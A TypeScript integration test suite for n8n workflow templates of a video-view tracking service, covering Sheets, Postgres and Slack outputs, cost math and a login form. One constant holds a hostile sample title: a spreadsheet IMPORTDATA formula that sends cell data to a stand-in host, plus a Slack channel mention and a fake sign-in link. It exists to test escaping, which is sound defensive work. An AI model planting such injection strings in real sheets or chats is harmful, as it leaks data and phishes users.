import { readdirSync } from 'node:fs';
import { join } from 'node:path';
import { setTimeout as sleep } from 'node:timers/promises';
import type { IDataObject, INode } from 'n8n-workflow';
import type { Client } from 'pg';
import {
	executionError,
	nodeOutput,
	type CredentialReference,
	type Execution,
	type N8nApi,
	type SavedWorkflow,
	type WorkflowTemplate,
} from '../../demo/n8n';
import {
	isOurs,
	readTemplate,
	saveCredential,
	TABLE,
	TRACK_NODE,
	TRACK_TRIGGER,
} from '../../demo/scenario';
import type { Sandbox, SandboxVideo } from '../../sandbox';
import { pollEvery } from '../support/pollTimes';
import { connect, findPostgres } from '../../harness/postgres';
import { openSandbox, startRealN8n } from '../support/realN8n';
import { fromPostgres, rowsTaken } from '../support/rows';
import { CHART, startSink, withSink, type Sink } from '../support/sink';
import { waitFor } from '../support/waitFor';

const TIKTOK = 'https://www.tiktok.com/@harbor.coffee/video/7301122334455667788';
const YOUTUBE = 'https://www.youtube.com/watch?v=hC0ffee2024';
const INSTAGRAM = 'https://www.instagram.com/p/C1aHarborCf/';
const ONE_OF_EACH = [
	TIKTOK,
	YOUTUBE,
	INSTAGRAM,
	'https://twitter.com/harbor/status/1745000000000000001',
];
/** A title that a stranger may give a video: it asks Slack for a mention and a link, Google for a formula. */
const HOSTILE = '=IMPORTDATA("https://x.test/?"&B2)\n<!channel> <https://x.test|Sign in> & more ';
const HOSTILE_IN_SLACK =
	'=IMPORTDATA("https://x.test/?"&amp;B2) &lt;!channel&gt; &lt;https://x.test|Sign in&gt; &amp; more';
const EXAMPLE = 'https://www.tiktok.com/@example/video/7601081937123456789';
const HOUR_MS = 3_600_000;
const DAY_MS = 24 * HOUR_MS;
/** Time for n8n to import and publish a workflow, in milliseconds. */
const UNTIL_NEXT_MS = 20_000;
/** Longest wait for a row or a message, in milliseconds. */
const MOST_MS = 90_000;

let n8n: N8nApi;
let n8nUrl: string;
let dir: string;
let sink: Sink;
let postgres: Client;
let postgresCredential: CredentialReference;

const DATABASE = `contentstats_templates_${process.pid}`;
const postgresRows = async () =>
	(await postgres.query('select * from contentstats_snapshots')).rows.map(fromPostgres);

beforeAll(async () => {
	({ n8n, dir, url: n8nUrl } = await startRealN8n());
	const server = await findPostgres(join(dir, 'postgres'));
	const admin = await connect(server);
	await admin.query(`create database ${DATABASE}`);
	await admin.end();
	const address = { ...server, database: DATABASE };
	postgres = await connect(address);
	postgresCredential = await n8n.createCredential('PostgreSQL', 'postgres', {
		...address,
		ssl: 'disable',
	});
});
beforeEach(async () => {
	sink = await startSink();
	await postgres.query('drop table if exists contentstats_snapshots');
});
afterEach(async () => await sink.close());
afterAll(async () => {
	await postgres.end();
	const admin = await connect(await findPostgres(join(dir, 'postgres')));
	await admin.query(`drop database if exists ${DATABASE} with (force)`);
	await admin.end();
});

test('"Track links from a Google Sheet" writes the outcomes and tracks each video once', async () => {
	const sandbox = await openSandbox();
	const links = [...ONE_OF_EACH, 'https://example.com/no-video', `${YOUTUBE}&t=10`];
	sink.sheets.set(
		'Videos',
		links.map((link) => ({ link })),
	);
	const workflow = await importTemplate('track-links-from-a-google-sheet', sandbox);
	await runToItsEnd(workflow, TRACK_TRIGGER);

	const videos = [...sandbox.videos.values()];
	expect(videos.map(({ video_link }) => video_link).sort()).toEqual([...ONE_OF_EACH].sort());
	const rows = sink.sheets.get('Videos')!;
	expect(rows).toHaveLength(links.length);
	rows.slice(0, 4).forEach((row, index) => {
		const { id, status } = videos.find(({ video_link }) => video_link === links[index])!;
		expect(row).toMatchObject({ link: links[index], outcome: 'tracked', video_id: id, status });
	});
	expect(rows[4]).toMatchObject({
		outcome: 'failed',
		message: expect.stringContaining('example.com'),
	});
	expect(rows[5]).toMatchObject({ outcome: 'duplicate', video_id: rows[1]!.video_id });

	await runToItsEnd(workflow, TRACK_TRIGGER);
	expect(rows.slice(0, 4).map(({ outcome }) => outcome)).toEqual(Array(4).fill('already_tracked'));
	expect(sandbox.videos.size).toBe(4);
});

test('"New snapshots to Google Sheets" writes each snapshot to one row', async () => {
	const sandbox = await openSandbox({ snapshotIntervalMs: 5_000 });
	const titles = [HOSTILE, '+1', '@all', '-2+3'];
	for (const [index, video_link] of ONE_OF_EACH.entries())
		sandbox
			.seedVideo({ video_link, started: ago(20_000) })
			.override({ current_metadata: { title: titles[index] } });
	const written = () => sink.sheets.get('Snapshots') ?? [];
	const rows = await rowsWrittenBy('new-snapshots-to-google-sheets', sandbox, written);
	expectTheRowsOf(sandbox, rows);
	expect([...new Set(rows.map(({ title }) => title))].sort()).toEqual([...titles].sort());
});

test('"New snapshots to PostgreSQL" writes each snapshot to one row', async () => {
	const sandbox = await openSandbox({ snapshotIntervalMs: 5_000 });
	ONE_OF_EACH.forEach((video_link) => sandbox.seedVideo({ video_link, started: ago(20_000) }));
	const rows = await rowsWrittenBy('new-snapshots-to-postgresql', sandbox, postgresRows);
	expectTheRowsOf(sandbox, rows);
});

test('"Milestones to Slack" posts one message for each milestone', async () => {
	const sandbox = await openSandbox({ snapshotIntervalMs: 5_000 });
	const video = sandbox.seedVideo({ video_link: TIKTOK, started: ago(30_000) });
	video.override({ current_metadata: { title: HOSTILE, creator: '<@U1> & co' } });
	let jumpedAt = Infinity;
	mapSnapshots(sandbox, video, (snapshots) =>
		snapshots.map((snapshot) => ({
			...snapshot,
			views: Date.parse(snapshot.snapshot_time) > jumpedAt ? '123456' : '9500',
		})),
	);
	const workflow = await importTemplate('milestones-to-slack', sandbox);
	await whilePublished(workflow, async () => {
		jumpedAt = Date.now();
		await waitFor('two messages', MOST_MS, () => sink.messages.length >= 2);
		await sleep(12_000);
	});
	const message = (mark: string) => ({
		channel: '#campaign',
		text:
			`:tada: *${HOSTILE_IN_SLACK}* passed *${mark} views*\n` +
			`&lt;@U1&gt; &amp; co · tiktok · now 123,456 views\n${TIKTOK}`,
	});
	expect(sink.messages).toEqual([message('10,000'), message('100,000')]);
});

/** Views that rise for two days, and then no more: by hour 72 the last 24 hours brought nothing. */
const SLOWING = (hour: number) => (hour < 48 ? 1000 * hour : 48_300);

test('"Viral alert to Slack" posts one message when a video takes off', async () => {
	const { sandbox, video } = await openWithNextSnapshot(40, (hour) =>
		hour < 40 ? 1000 + 400 * hour : 90_000,
	);
	video.override({ current_metadata: { title: HOSTILE, creator: '<@U1> & co' } });
	const workflow = await importTemplate('viral-alert-to-slack', sandbox);
	await whilePublished(workflow, async () => {
		await waitFor('a message', MOST_MS, () => sink.messages.length > 0);
		await sleep(6_000);
	});
	// From hour 39 (16,600 views) to hour 40.
	expect(sink.messages).toEqual([
		{
			channel: '#campaign',
			text:
				`:rocket: *${HOSTILE_IN_SLACK}* is taking off: *+73,400 views per hour*, usually +400\n` +
				`&lt;@U1&gt; &amp; co · tiktok · now 90,000 views\n${TIKTOK}`,
		},
	]);
});

test('"Stop when growth slows" stops a video once, and posts what that saves', async () => {
	const { sandbox, video } = await openWithNextSnapshot(72, SLOWING);
	const workflow = await importTemplate('stop-when-growth-slows', sandbox);
	await whilePublished(workflow, async () => {
		await waitFor('a message', MOST_MS, () => sink.messages.length > 0);
	});
	await whilePublished(workflow, async () => await sleep(6_000));
	expect(video.status).toBe('completed');
	const stops = sandbox.requests.filter(({ method }) => method === 'POST');
	expect(stops.map(({ path }) => path)).toEqual([expect.stringContaining(`${video.id}/stop`)]);
	const { title } = (await fetchFromApi(sandbox, `/videos/${video.id}`)).current_metadata;
	// 73 of 720 snapshots are taken: 647 are left, at $0.015 each.
	expect(sink.messages.map(({ text }) => text)).toEqual([
		`:octagonal_sign: Stopped *${title}*\n` +
			'It grew by 0 views in the last window, 0 % of its best (24,300).\n' +
			`Saves about $9.71: 647 snapshots.\n${TIKTOK}`,
	]);
});

test('"Renew what still grows" tracks a video again that ended by itself, once', async () => {
	const { sandbox, video } = await openWithNextSnapshot(23, (hour) => 100 * hour, 1);
	const stopped = sandbox.seedVideo({ video_link: YOUTUBE, started: ago(23 * HOUR_MS) });
	const workflow = await importTemplate('renew-what-still-grows', sandbox);
	await whilePublished(workflow, async () => {
		stopped.end('completed', Date.now());
		await waitFor('a message', MOST_MS, () => sink.messages.length > 0);
	});
	await whilePublished(workflow, async () => await sleep(6_000));
	const renewed = [...sandbox.videos.values()].slice(2);
	expect(renewed.map(({ video_link }) => video_link)).toEqual([video.video_link]);
	expect(sandbox.ledger.filter(({ kind }) => kind === 'track')).toMatchObject([
		{ video_id: renewed[0]!.id, duration_days: 7, estimated_cost: 2.52 },
	]);
	expect(sink.messages.map(({ text }) => text)).toEqual([
		expect.stringMatching(
			/^:seedling: Renewed \*.+\*\nIt gained 2,300 views in its last 24 hours\.\n7 more days cost about \$2\.52\.\n/,
		),
	]);
});

test('"Campaign totals" posts the views and the cost per view of each campaign', async () => {
	const { sandbox } = await openWithNextSnapshot(40, () => 10_000);
	sandbox.seedVideo({ video_link: INSTAGRAM, started: ago(3 * HOUR_MS) });
	const untaken = sandbox.seedVideo({ video_link: `${TIKTOK}9` });
	untaken.override({ snapshots: [] });
	const workflow = await importTemplate('campaign-totals', sandbox);
	const start = 'Every Monday at 9';
	await runToItsEnd(workflow, start);
	expect(sink.messages).toEqual([]);
	await n8n.addTableRows('ContentStats campaigns', [
		{ link: 'tiktok:7301122334455667788', campaign: 'Spring & more', fee: 100 },
		{ link: `${TIKTOK}?is_from_webapp=1`, campaign: 'Autumn', fee: 0 },
		{ link: untaken.video_link, campaign: ' Autumn', fee: 20.5 },
		{ link: INSTAGRAM, campaign: 'Spring & more', fee: 60 },
		{ link: YOUTUBE, campaign: 'Never tracked', fee: 5 },
	]);
	await runToItsEnd(workflow, start);
	expect(sink.messages.map(({ text }) => text)).toEqual([
		'*Campaign totals*\n' +
			'• *Spring &amp; more*: 10,000 views of 1 of 2 videos, $0.0100 per view, $160.00 in fees\n' +
			'• *Autumn*: 10,000 views of 1 of 2 videos, $20.50 in fees\n' +
			'• *Never tracked*: 0 views of 0 of 1 video, $5.00 in fees',
	]);
});

test('"Chart of the week" posts the views gained on each day', async () => {
	const sandbox = await openSandbox({ balanceUsd: 1000 });
	const started = ago(4 * DAY_MS);
	const videos = [TIKTOK, YOUTUBE].map((video_link) => sandbox.seedVideo({ video_link, started }));
	sandbox.seedVideo({ video_link: INSTAGRAM, started });
	const workflow = await importTemplate('chart-of-the-week', sandbox);
	await runToItsEnd(workflow, 'Every Monday at 9');

	// n8n's own time zone, in the Swedish spelling: YYYY-MM-DD.
	const format = new Intl.DateTimeFormat('sv-SE', { timeZone: 'America/New_York' });
	const dayOf = (time: string) => format.format(new Date(time));
	const today = dayOf(new Date().toISOString());
	const gains = new Map<string, number>();
	for (const video of videos) {
		const last = new Map(rowsTaken(video).map((row) => [dayOf(row.snapshot_time), row.views!]));
		const days = [...last.keys()];
		for (const [place, day] of days.entries())
			if (place > 0 && day < today)
				gains.set(day, (gains.get(day) ?? 0) + last.get(day)! - last.get(days[place - 1]!)!);
	}
	const total = [...gains.values()].reduce((sum, views) => sum + views, 0);
	const chart = [...gains].flatMap(([day, views], place) => [
		[`labels[${place}]`, day],
		[`data[${place}]`, String(views)],
	]);
	expect(sink.charts).toEqual([Object.fromEntries(chart)]);
	expect(sink.files).toEqual([
		{ comment: `*Views this week*: +${total.toLocaleString('en-US')}`, bytes: CHART },
	]);
});

describe('"Track videos from a form"', () => {
	const USER = { user: 'colleague', password: 'a-password' };
	const authorization = `Basic ${Buffer.from(`${USER.user}:${USER.password}`).toString('base64')}`;

	const send = async (url: string, init: RequestInit = {}) => {
		const headers = { authorization };
		const signal = AbortSignal.timeout(10_000);
		return await (await fetch(url, { ...init, headers, signal })).text();
	};

	/** Sends a page of the form, and returns the next one. */
	async function submit(page: string, ...fields: string[]): Promise<{ url: string; text: string }> {
		const body = new FormData();
		for (const [place, value] of fields.entries()) body.append(`field-${place}`, value);
		const { formWaitingUrl: url } = JSON.parse(await send(page, { method: 'POST', body })) as {
			formWaitingUrl: string;
		};
		// As the page itself does: n8n answers with the next page only once the execution waits for it.
		const status = url.replace('?', '/n8n-execution-status?');
		await waitFor('the next page', 30_000, async () => (await send(status)) === 'form-waiting');
		return { url, text: (await send(url)).replace(/<[^>]+>/g, ' ') };
	}

	test('shows the price, tracks what is confirmed, and pays for it once', async () => {
		const sandbox = await openSandbox();
		const login = await n8n.createCredential('Form', 'httpBasicAuth', USER);
		const workflow = await importTemplate('track-videos-from-a-form', sandbox, login);
		const { nodes } = readTemplate('track-videos-from-a-form.json');
		const form = nodes.find(({ name }) => name === 'On form submission')!;
		const address = `${n8nUrl}/form/${form.webhookId}`;
		const links = [...ONE_OF_EACH, 'https://example.com/no-video'].join('\n');
		await whilePublished(workflow, async () => {
			// n8n confirms a publication before the form is there.
			await waitFor('the login', 30_000, async () => (await fetch(address)).status === 401);
			for (const [answer, price, result, count] of [
				['No', '$2.88.', 'Nothing was tracked or charged.', 0],
				['Yes, at this price', '$2.88.', '4 of 5 tracked, for $2.88.', 4],
				['Yes, at this price', '$0.00. 4 already tracked, at no cost.', '0 of 5 tracked', 4],
			] as const) {
				const page = await submit(address, links, '2');
				expect(page.text).toContain(`Price: ${price} 1 can't be tracked. First: `);
				expect((await submit(page.url, answer)).text).toContain(result);
				expect(sandbox.ledger.filter(({ kind }) => kind === 'track')).toHaveLength(count);
			}

			// What was confirmed as free is not paid for, though its tracking has ended meanwhile.
			const page = await submit(address, links, '2');
			expect(page.text).toContain('Price: $0.00.');
			for (const video of sandbox.videos.values()) video.end('cancelled', Date.now());
			const refused = (await submit(page.url, 'Yes, at this price')).text;
			expect(refused).toContain('0 of 5 tracked, for $0.00. 5 not tracked.');
			expect(sandbox.ledger.filter(({ kind }) => kind === 'track')).toHaveLength(4);
		});
	});
});

test('"Weekly digest to Slack" posts the ten active videos that gained the most', async () => {
	const sandbox = await openSandbox({ balanceUsd: 1000 });
	const running = Array.from({ length: 11 }, (_, number) =>
		sandbox.seedVideo({
			video_link: `https://www.tiktok.com/@a/video/73011223344556677${10 + number}`,
			started: ago(3 * DAY_MS),
		}),
	);
	running.push(
		sandbox.seedVideo({ video_link: INSTAGRAM, started: ago(9 * DAY_MS), duration_days: 30 }),
	);
	const over = sandbox.seedVideo({ video_link: YOUTUBE, started: ago(20 * DAY_MS) });
	const workflow = await importTemplate('weekly-digest-to-slack', sandbox);
	await runToItsEnd(workflow, 'Every Monday at 9');

	const gains = running.map((video) => {
		const counts = rowsTaken(video)
			.filter(({ snapshot_time }) => Date.parse(snapshot_time) >= ago(7 * DAY_MS))
			.map(({ views, likes }) => (video === running.at(-1) ? likes : views)!);
		return { id: video.id, first: counts[0]!, last: counts.at(-1)! };
	});
	const topTen = gains.sort((a, b) => b.last - b.first - (a.last - a.first)).slice(0, 10);
	expect(sink.messages).toHaveLength(1);
	const [heading, ...lines] = sink.messages[0]!.text.split('\n');
	expect(heading).toBe('*Top videos this week*');
	expect(lines).toHaveLength(20);
	for (const [index, { id, first, last }] of topTen.entries()) {
		const { current_metadata, platform } = await fetchFromApi(sandbox, `/videos/${id}`);
		expect(lines[2 * index]).toMatch(/ [▁▂▃▄▅▆▇█]{24}$/);
		expect(lines[2 * index]).toContain(`${index + 1}. *${current_metadata.title}* (${platform}) `);
		const format = (count: number) => count.toLocaleString('en-US');
		const rate = (100 * ((last - first) / first)).toFixed(1);
		const metric = platform === 'instagram' ? 'likes' : 'views';
		expect(lines[2 * index + 1]).toBe(
			`     +${format(last - first)} ${metric} (+${rate} %), now ${format(last)}`,
		);
	}
	const requested = sandbox.requests.map(({ path }) => path);
	expect(requested.filter((path) => path.includes(over.id))).toEqual([]);
});

test('"Weekly digest to Slack" escapes titles, and a video that cannot be read holds no other back', async () => {
	const sandbox = await openSandbox({ balanceUsd: 1000 });
	const titles = [HOSTILE, ' ', 'x'.repeat(200), 'Down'];
	const links = ONE_OF_EACH.slice(0, 2).concat(`${TIKTOK}1`, `${TIKTOK}2`, `${TIKTOK}3`);
	const videos = links.map((video_link, index) => {
		const video = sandbox.seedVideo({ video_link, started: ago(3 * DAY_MS) });
		video.override({ current_metadata: { title: titles[index] ?? 'Broken' } });
		return video;
	});
	// Of a video whose times cannot be read it is unknown when it ran: it is not left out.
	videos[1]!.override({ status: 'archived', monitoring_started: null, created_at: 'N/A' });
	const counts = { likes: null, comments: null, shares: null, saves: null };
	for (const [hours, views] of [
		[2, '1500'],
		[1, '1000'],
	] as const)
		videos[3]!.addSnapshot({
			...counts,
			views,
			snapshot_time: new Date(ago(hours * 3_600_000)).toISOString(),
		});
	mapSnapshots(sandbox, videos[3]!, (snapshots) => snapshots.slice(-2));
	sandbox.faults.add({
		kind: 'status',
		status: 403,
		match: { method: 'GET', path: `/videos/${videos[4]!.id}` },
		times: Infinity,
	});
	const workflow = await importTemplate('weekly-digest-to-slack', sandbox);
	await runToItsEnd(workflow, 'Every Monday at 9');

	const { text } = sink.messages[0]!;
	expect(sink.messages).toHaveLength(1);
	expect(text).toContain(`. *${HOSTILE_IN_SLACK}* (tiktok) `);
	expect(text).toContain(`. *${YOUTUBE}* (youtube) `);
	expect(text).toContain(`. *${'x'.repeat(100)}* (tiktok) `);
	expect(text).toContain('4. *Down* (tiktok) ');
	expect(text).toContain('     -500 views (-33.3 %), now 1,000');
	expect(text).not.toContain('Broken');
	expect(text).toMatch(/\n1 more video couldn't be read. Open the execution in n8n for details.$/);

	sandbox.clear();
	sandbox.faults.add({
		kind: 'status',
		status: 403,
		match: { path_pattern: '/videos/' },
		times: 'always',
	});
	await runToItsEnd(workflow, 'Every Monday at 9');
	expect(sink.messages[1]!.text).toBe(
		"*Top videos this week*\n\n5 more videos couldn't be read. Open the execution in n8n for details.",
	);
});

test('"Low-balance alert" posts one message when the balance is low', async () => {
	const sandbox = await openSandbox({ balanceUsd: 4.2 });
	sandbox.seedVideo({ video_link: TIKTOK, started: ago(DAY_MS) });
	const workflow = await importTemplate('low-balance-alert', sandbox);
	await whilePublished(workflow, async () => {
		await waitFor('a message', MOST_MS, () => sink.messages.length > 0);
		await sleep(12_000);
	});
	expect(sink.messages).toEqual([
		{
			channel: '#campaign',
			text:
				':warning: *ContentStats balance: $4.20 available*\n' +
				'1 active video will cost another $2.16. The balance lasts for about 11.7 days. ' +
				'Tracking pauses when it runs out.',
		},
	]);
});

describe('by its main button', () => {
	const WRITERS: Array<[string, () => IDataObject[] | Promise<IDataObject[]>]> = [
		['new-snapshots-to-google-sheets', () => sink.sheets.get('Snapshots') ?? []],
		['new-snapshots-to-a-data-table', async () => await n8n.tableRows(TABLE)],
		['new-snapshots-to-postgresql', postgresRows],
	];

	test.each(WRITERS)('"%s" writes nothing on an empty account', async (name, written) => {
		const workflow = await importTemplate(name, await openSandbox());
		const execution = await runToItsEnd(workflow, 'On new snapshot');
		expect(nodeOutput(execution, 'On new snapshot')).toMatchObject([{ title: 'Example video' }]);
		expect(await written()).toEqual([]);
	});

	test.each(WRITERS)('"%s" writes the newest snapshot of a video', async (name, written) => {
		const sandbox = await openSandbox();
		const video = sandbox.seedVideo({ video_link: TIKTOK, started: ago(DAY_MS) });
		const workflow = await importTemplate(name, sandbox);
		await runToItsEnd(workflow, 'On new snapshot');
		await runToItsEnd(workflow, 'On new snapshot');
		const rows = await written();
		expect(rows).toHaveLength(1);
		expect(rows[0]).toMatchObject(rowsTaken(video).at(-1)!);
	});

	test('"Track a batch of videos" shows the price and spends nothing', async () => {
		const sandbox = await openSandbox();
		const workflow = await importTemplate('track-a-batch-of-videos', sandbox);
		const execution = await runToItsEnd(workflow, TRACK_TRIGGER);
		const items = nodeOutput(execution, TRACK_NODE);
		expect(items).toHaveLength(12);
		for (const item of items)
			expect(item).toMatchObject({ outcome: 'would_track', estimated_cost: 2.52 });
		expect(sandbox.videos.size).toBe(0);
	});

	test('"Track links from a Google Sheet" does nothing with an empty sheet', async () => {
		const sandbox = await openSandbox();
		await runToItsEnd(
			await importTemplate('track-links-from-a-google-sheet', sandbox),
			TRACK_TRIGGER,
		);
		expect([sandbox.videos.size, sink.sheets.get('Videos')]).toEqual([0, []]);
	});

	test('"Milestones to Slack" posts one example', async () => {
		const sandbox = await openSandbox();
		await runToItsEnd(await importTemplate('milestones-to-slack', sandbox), 'On milestone');
		expect(sink.messages.map(({ text }) => text)).toEqual([
			':tada: *Example video* passed *10,000 views*\n' +
				'example · tiktok · now 10,000 views\n' +
				EXAMPLE,
		]);
	});

	test('"Viral alert to Slack" posts one example', async () => {
		await runToItsEnd(
			await importTemplate('viral-alert-to-slack', await openSandbox()),
			'On spike',
		);
		expect(sink.messages.map(({ text }) => text)).toEqual([
			':rocket: *Example video* is taking off: *+1,200 views per hour*, usually +400\n' +
				`example · tiktok · now 1,250,000 views\n${EXAMPLE}`,
		]);
	});

	test.each([
		['stop-when-growth-slows', 'On slowed growth'],
		['renew-what-still-grows', 'On ended tracking'],
	])('"%s" posts nothing on an empty account', async (name, trigger) => {
		await runToItsEnd(await importTemplate(name, await openSandbox()), trigger);
		expect(sink.messages).toEqual([]);
	});

	test('"Stop when growth slows" stops nothing', async () => {
		const { sandbox, video } = await openWithNextSnapshot(80, SLOWING);
		await runToItsEnd(await importTemplate('stop-when-growth-slows', sandbox), 'On slowed growth');
		expect(sink.messages[0]!.text).toMatch(/^:mag: Test, nothing was stopped\. Would stop \*/);
		expect([video.status, sandbox.requests.filter(({ method }) => method === 'POST')]).toEqual([
			'monitoring',
			[],
		]);
	});

	test('"Renew what still grows" spends nothing', async () => {
		const sandbox = await openSandbox({ firstSnapshotDelayMs: 0 });
		const { id } = sandbox.seedVideo({
			video_link: TIKTOK,
			started: ago(24 * HOUR_MS),
			duration_days: 1,
		});
		await runToItsEnd(await importTemplate('renew-what-still-grows', sandbox), 'On ended tracking');
		expect(sink.messages[0]!.text).toMatch(/^:mag: Test, nothing was tracked\. Would renew \*/);
		expect([...sandbox.videos.keys()]).toEqual([id]);
	});

	test('"Low-balance alert" posts the balance', async () => {
		const sandbox = await openSandbox({ balanceUsd: 95 });
		await runToItsEnd(await importTemplate('low-balance-alert', sandbox), 'On low balance');
		expect(sink.messages.map(({ text }) => text)).toEqual([
			':warning: *ContentStats balance: $95.00 available*\n' +
				'0 active videos will cost another $0.00. Tracking pauses when it runs out.',
		]);
	});

	test('"Chart of the week" posts nothing on an empty account', async () => {
		const sandbox = await openSandbox();
		await runToItsEnd(await importTemplate('chart-of-the-week', sandbox), 'Every Monday at 9');
		expect([sink.charts, sink.files]).toEqual([[], []]);
	});

	test('"Weekly digest to Slack" posts nothing on an empty account', async () => {
		const sandbox = await openSandbox();
		await runToItsEnd(await importTemplate('weekly-digest-to-slack', sandbox), 'Every Monday at 9');
		expect(sink.messages).toEqual([]);
	});
});

test('every template in workflows/ is tested', () => {
	const files = readdirSync(join(__dirname, '..', '..', 'workflows'));
	expect(files.sort()).toEqual(
		[...imported, 'tools-for-an-ai-assistant'].map((name) => `${name}.json`).sort(),
	);
});

const imported = new Set<string>();

/** Imports a template that polls every 5 seconds and uses the sink instead of outside services. */
async function importTemplate(
	name: string,
	sandbox: Sandbox,
	basicAuth?: CredentialReference,
): Promise<SavedWorkflow> {
	imported.add(name);
	const ours = await saveCredential(n8n, sandbox);
	const template = withSink(withFastPolls(readTemplate(`${name}.json`)), sink);
	return await n8n.importWorkflow(template, (node) => {
		if (isOurs(node)) return ours;
		if (node.type === 'n8n-nodes-base.formTrigger') return basicAuth;
		return node.type === 'n8n-nodes-base.postgres' ? postgresCredential : undefined;
	});
}

function withFastPolls(template: WorkflowTemplate): WorkflowTemplate {
	const pollTimes = pollEvery(5);
	const faster = (node: INode): INode =>
		node.parameters.pollTimes ? { ...node, parameters: { ...node.parameters, pollTimes } } : node;
	return { ...template, nodes: template.nodes.map(faster) };
}

async function runToItsEnd(workflow: SavedWorkflow, trigger: string): Promise<Execution> {
	const execution = await n8n.run(workflow, trigger);
	if (execution.status !== 'success') throw executionError(workflow.name, execution);
	return execution;
}

/** Runs `work` while the workflow is published, then checks that none of its executions failed. */
async function whilePublished(workflow: SavedWorkflow, work: () => Promise<void>): Promise<void> {
	await n8n.publish(workflow);
	try {
		await work();
	} finally {
		await n8n.request('POST', `/workflows/${workflow.id}/deactivate`, {});
	}
	const failed = await n8n.executions('error');
	expect(failed.filter(({ workflowId }) => workflowId === workflow.id)).toEqual([]);
}

/** Publishes a template until all snapshots of ten seconds are written, and returns the rows. */
async function rowsWrittenBy(
	name: string,
	sandbox: Sandbox,
	written: () => IDataObject[] | Promise<IDataObject[]>,
): Promise<IDataObject[]> {
	await whilePublished(await importTemplate(name, sandbox), async () => {
		const taken = await takenSoFar(sandbox, 10_000);
		const areWritten = async () => missingOf(taken, await written()).length === 0;
		await waitFor('the rows', MOST_MS, areWritten);
	});
	return await written();
}

/** Waits for `ms`, then returns the event keys of all snapshots taken by then. */
async function takenSoFar(sandbox: Sandbox, ms: number): Promise<string[]> {
	await sleep(ms);
	const rows = [...sandbox.videos.values()].flatMap(rowsTaken);
	return rows.map(({ event_key }) => event_key);
}

const missingOf = (keys: string[], rows: IDataObject[]): string[] => {
	const found = new Set(rows.map(({ event_key }) => event_key));
	return keys.filter((key) => !found.has(key));
};

/** Checks that no row occurs twice and that each has the values of the sandbox's snapshot. */
function expectTheRowsOf(sandbox: Sandbox, rows: IDataObject[]): void {
	const taken = new Map(
		[...sandbox.videos.values()].flatMap(rowsTaken).map((row) => [row.event_key, row]),
	);
	expect(new Set(rows.map(({ event_key }) => event_key)).size).toBe(rows.length);
	for (const row of rows) expect(row).toMatchObject(taken.get(String(row.event_key))!);
}

async function fetchFromApi({ baseUrl, liveKey }: Sandbox, path: string) {
	const reply = await fetch(`${baseUrl}${path}`, { headers: { 'X-API-Key': liveKey } });
	return (await reply.json()) as {
		platform: string;
		current_metadata: { title: string; creator: string };
	};
}

/** Changes the snapshots of a video in every reply. */
function mapSnapshots(
	sandbox: Sandbox,
	{ id }: SandboxVideo,
	map: (snapshots: Array<{ snapshot_time: string }>) => object[],
): void {
	sandbox.faults.add({
		kind: 'map',
		match: { method: 'GET', path: `/videos/${id}` },
		times: Infinity,
		map: (json) => {
			const reply = json as { snapshots: Array<{ snapshot_time: string }> };
			return { ...reply, snapshots: map(reply.snapshots) };
		},
	});
}

/**
 * Opens a sandbox with a video that takes its snapshot of `hours` in a moment, by which time a workflow is published.
 *
 * @param viewsAt the views of the snapshot of each hour.
 */
async function openWithNextSnapshot(
	hours: number,
	viewsAt: (hour: number) => number,
	duration_days = 30,
) {
	const sandbox = await openSandbox({ firstSnapshotDelayMs: 0 });
	const started = ago(hours * HOUR_MS - UNTIL_NEXT_MS);
	const video = sandbox.seedVideo({ video_link: TIKTOK, started, duration_days });
	mapSnapshots(sandbox, video, (snapshots) =>
		snapshots.map((snapshot, hour) => ({ ...snapshot, views: String(viewsAt(hour)) })),
	);
	return { sandbox, video };
}

const ago = (ms: number): number => Date.now() - ms;
